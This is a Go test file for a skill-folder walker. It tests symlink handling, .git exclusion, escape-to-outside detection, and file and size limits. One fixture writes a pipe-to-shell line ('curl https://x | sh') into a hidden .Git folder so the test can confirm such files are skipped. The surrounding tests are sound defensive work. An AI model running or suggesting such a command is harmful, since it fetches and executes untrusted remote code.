package manifest

import (
	"errors"
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ccski/ccski/internal/testfs"
)

// shape is an entry as the walk tests compare it: "file", "folder",
// "link -> target" or "link out -> target".
func shape(e Entry) string {
	switch e.Kind {
	case KindFile:
		return "file"
	case KindFolder:
		return "folder"
	case KindLink:
		if e.Outside {
			return "link out -> " + e.Link
		}
		return "link -> " + e.Link
	}
	return fmt.Sprintf("kind %d", e.Kind)
}

// shapes maps the entries of l by path.
func shapes(entries []Entry) map[string]string {
	out := map[string]string{}
	for _, e := range entries {
		out[e.Path] = shape(e)
	}
	return out
}

// TestWalkRules is the table of the walk's rules: what is a file of the
// skill, what a recorded link (and which of those lead out), what is
// left out, for every caller's options. The skill is base/skill.
func TestWalkRules(t *testing.T) {
	deep := strings.Repeat("d/", MaxDepth)
	for _, tt := range []struct {
		name    string
		tree    map[string]string
		walk    Walk
		within  string // Walk.Within, relative to base
		want    map[string]string
		omitted []string
	}{
		{name: "regular and hidden files, nested folders",
			tree: map[string]string{"skill/SKILL.md": "s", "skill/.hidden": "h", "skill/.config/a.json": "{}",
				"skill/a/b/c.txt": "c", "skill/empty/": ""},
			want: map[string]string{"SKILL.md": "file", ".hidden": "file", ".config/a.json": "file", "a/b/c.txt": "file"}},
		{name: ".git: a folder with or without HEAD, any case, a file, at any depth",
			tree: map[string]string{"skill/SKILL.md": "s", "skill/.git/HEAD": "ref", "skill/.git/run.sh": "x",
				"skill/.Git/run.sh": "curl https://x | sh", "skill/sub/.GIT": "gitdir: /elsewhere", "skill/sub/ok.md": "ok"},
			want: map[string]string{"SKILL.md": "file", "sub/ok.md": "file"}},
		{name: "a link to a file inside is that file; every other link is recorded",
			tree: map[string]string{"skill/SKILL.md": "s", "skill/refs/r.md": "r", "outside.md": "o", "outdir/x.md": "x",
				"skill/alias.md": "-> refs/r.md", "skill/chain.md": "-> alias.md", "skill/up.md": "-> ../skill/SKILL.md",
				"skill/out.md": "-> ../outside.md", "skill/outdir": "-> ../outdir", "skill/refs-link": "-> refs",
				"skill/self": "-> .", "skill/broken.md": "-> nothing.md", "skill/broken-out.md": "-> ../../nowhere.md",
				"skill/loop1": "-> loop2", "skill/loop2": "-> loop1", "skill/git.sh": "-> .git/run.sh",
				"skill/.git/run.sh": "x"},
			want: map[string]string{"SKILL.md": "file", "refs/r.md": "file", "alias.md": "file", "chain.md": "file",
				"up.md": "file", "out.md": "link out -> ../outside.md", "outdir": "link out -> ../outdir",
				"refs-link": "link -> refs", "self": "link -> .", "broken.md": "link -> nothing.md",
				"broken-out.md": "link out -> ../../nowhere.md", "loop1": "link -> loop2", "loop2": "link -> loop1",
				"git.sh": "link out -> .git/run.sh"}},
		{name: "folders deeper than MaxDepth are omitted",
			tree:    map[string]string{"skill/SKILL.md": "s", "skill/" + deep + "ok.md": "ok", "skill/" + deep + "d/far.md": "far"},
			want:    map[string]string{"SKILL.md": "file", deep + "ok.md": "file"},
			omitted: []string{deep + "d"}},
		{name: "Within: a link out of the skill into the source is followed, with Folders to a folder too",
			tree: map[string]string{"src/skill/SKILL.md": "s", "src/shared/common.md": "c", "src/shared/dir/in.md": "i",
				"src/skill/common.md": "-> ../shared/common.md", "src/skill/shared": "-> ../shared/dir",
				"src/skill/loop": "-> .", "src/skill/escape.md": "-> ../../secret.md", "secret.md": "x",
				"src/.git/config": "x", "src/skill/git": "-> ../.git/config"},
			walk: Walk{Folders: true}, within: "src",
			want: map[string]string{"SKILL.md": "file", "common.md": "file", "shared/in.md": "file",
				"loop": "link -> .", "escape.md": "link out -> ../../secret.md", "git": "link out -> ../.git/config"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			base := testfs.TempDir(t)
			testfs.Write(t, base, tt.tree)
			dir := filepath.Join(base, "skill")
			w := tt.walk
			if tt.within != "" {
				w.Within = filepath.Join(base, tt.within)
				dir = filepath.Join(w.Within, "skill")
			}
			l, err := w.List(dir)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, shapes(l.Entries)); diff != "" {
				t.Errorf("entries (-want +got):\n%s", diff)
			}
			var omitted []string
			for _, o := range l.Omitted {
				omitted = append(omitted, o.Path)
				if !errors.Is(o.Err, ErrTooDeep) {
					t.Errorf("omitted %s: %v, want ErrTooDeep", o.Path, o.Err)
				}
			}
			if diff := cmp.Diff(tt.omitted, omitted); diff != "" {
				t.Errorf("omitted (-want +got):\n%s", diff)
			}
			if l.Limit != nil {
				t.Errorf("limit %v", l.Limit)
			}
		})
	}
}

// TestWalkLimits: the walk stops at MaxFiles entries (recorded links
// count) or folders, keeps the first size limit and goes on, and lists
// First before any limit can leave it out.
func TestWalkLimits(t *testing.T) {
	many := func(n int, name func(int) string, content string) map[string]string {
		m := map[string]string{}
		for i := range n {
			m[name(i)] = content
		}
		return m
	}
	for _, tt := range []struct {
		name  string
		tree  map[string]string
		sizes map[string]int64
		walk  Walk
		limit Limit
		has   string // an entry that must be listed
	}{
		{name: "links count as entries", tree: many(MaxFiles+1, func(i int) string { return fmt.Sprintf("l%04d", i) }, "-> /nowhere"),
			limit: TooManyFiles},
		{name: "folders count apart", tree: many(MaxFiles+1, func(i int) string { return fmt.Sprintf("d%04d/", i) }, ""),
			limit: TooManyFiles},
		{name: "the first file is listed before the limit stops the walk",
			tree: merge(many(3*MaxFiles, func(i int) string { return fmt.Sprintf("f%04d", i) }, "x"), map[string]string{"SKILL.md": "s"}),
			walk: Walk{First: "SKILL.md"}, limit: TooManyFiles, has: "SKILL.md"},
		{name: "a file too large is kept, the walk goes on", sizes: map[string]int64{"a.bin": MaxFileBytes + 1, "b.md": 1},
			limit: FileTooLarge, has: "b.md"},
		{name: "too many bytes", sizes: map[string]int64{"a": MaxFileBytes, "b": MaxFileBytes, "c": 1}, limit: TooManyBytes},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := testfs.TempDir(t)
			testfs.Write(t, dir, tt.tree)
			for p, size := range tt.sizes {
				sparse(t, filepath.Join(dir, p), size)
			}
			l, err := tt.walk.List(dir)
			if err != nil {
				t.Fatal(err)
			}
			if l.Limit == nil || l.Limit.Limit != tt.limit {
				t.Fatalf("limit %v, want %d", l.Limit, tt.limit)
			}
			if len(l.Entries) > MaxFiles {
				t.Errorf("%d entries, over MaxFiles", len(l.Entries))
			}
			if tt.has != "" && shapes(l.Entries)[tt.has] != "file" {
				t.Errorf("%s is not listed", tt.has)
			}
		})
	}
}

func merge(a, b map[string]string) map[string]string {
	for k, v := range b {
		a[k] = v
	}
	return a
}

// TestChildren: one folder's entries, by the walk's rules, in name order
// and in pages, with folders as entries.
func TestChildren(t *testing.T) {
	base := testfs.TempDir(t)
	testfs.Write(t, base, map[string]string{
		"skill/SKILL.md": "s", "skill/b/x.md": "x", "skill/.git/HEAD": "h", "skill/a.md": "-> SKILL.md",
		"skill/c": "-> b", "skill/d.md": "-> ../out.md", "out.md": "o",
	})
	dir := filepath.Join(base, "skill")
	all, more, err := Children(dir, "", "", 0)
	if err != nil || more {
		t.Fatalf("Children: %v, more %v", err, more)
	}
	want := map[string]string{"SKILL.md": "file", "a.md": "file", "b": "folder", "c": "link -> b", "d.md": "link out -> ../out.md"}
	if diff := cmp.Diff(want, shapes(all)); diff != "" {
		t.Errorf("entries (-want +got):\n%s", diff)
	}
	var paged []Entry
	for after := ""; ; {
		page, more, err := Children(dir, "", after, 2)
		if err != nil {
			t.Fatal(err)
		}
		paged = append(paged, page...)
		if !more {
			break
		}
		after = filepath.Base(page[len(page)-1].Path)
	}
	paths := func(es []Entry) (out []string) {
		for _, e := range es {
			out = append(out, e.Path+" "+shape(e))
		}
		return out
	}
	if diff := cmp.Diff(paths(all), paths(paged)); diff != "" {
		t.Errorf("pages differ from the whole (-whole +pages):\n%s", diff)
	}
	sub, _, err := Children(dir, "b", "", 0)
	if err != nil || len(sub) != 1 || sub[0].Path != "b/x.md" {
		t.Errorf("Children of b: %+v, %v", sub, err)
	}
	if _, _, err := Children(dir, "SKILL.md", "", 0); err == nil {
		t.Error("Children of a file: want an error")
	}
}

// TestChildrenStaysInside checks that Children lists no folder outside
// the skill: a folder reached through a link that leads out is refused,
// whatever the caller resolved before, since it is opened through an
// os.Root of the skill folder.
func TestChildrenStaysInside(t *testing.T) {
	base := testfs.TempDir(t)
	testfs.Write(t, base, map[string]string{
		"skill/SKILL.md": "s", "skill/out": "-> ../elsewhere", "elsewhere/secret.md": "private",
	})
	entries, _, err := Children(filepath.Join(base, "skill"), "out", "", 0)
	if err == nil {
		t.Fatalf("Children(out) listed %v; want an error, out leads outside the skill", shapes(entries))
	}
}
